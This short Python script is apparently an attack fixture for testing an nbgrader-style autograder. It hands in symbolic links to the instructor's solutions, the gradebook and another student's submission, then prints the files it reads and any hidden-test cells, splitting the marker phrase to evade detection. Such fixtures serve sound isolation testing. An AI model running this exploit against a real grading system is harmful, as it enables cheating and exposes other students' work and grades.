"""Hand in symbolic links next to the notebook (solutions.txt -> the instructor's source
notebook, gradebook.txt -> the gradebook, other.txt -> another student's submission, all
relative to the submission folder) and print whatever the grader copies into the working
folder: the hidden tests if a notebook comes through."""

# %% link solutions.txt -> ../../../solutions/01_linear_regression/01_linear_regression.ipynb
# %% link gradebook.txt -> ../../../gradebook.db
# %% link other.txt -> ../../honest/01_linear_regression/01_linear_regression.ipynb
# %% after add_bias_column
import json
import os

print("LISTED", sorted(os.listdir(".")))  # shows the attack ran, whatever it finds
for name in sorted(os.listdir(".")):
    try:
        with open(name, "rb") as f:
            data = f.read()
    except OSError:
        continue
    print("READ", name, len(data), "bytes")
    try:
        cells = json.loads(data)["cells"]
    except (ValueError, KeyError, TypeError):
        print(data[:100])
        continue
    for cell in cells:
        source = "".join(cell["source"])
        if "BEGIN " + "HIDDEN TESTS" in source:  # split: nbgrader reads the whole phrase
            print(source)
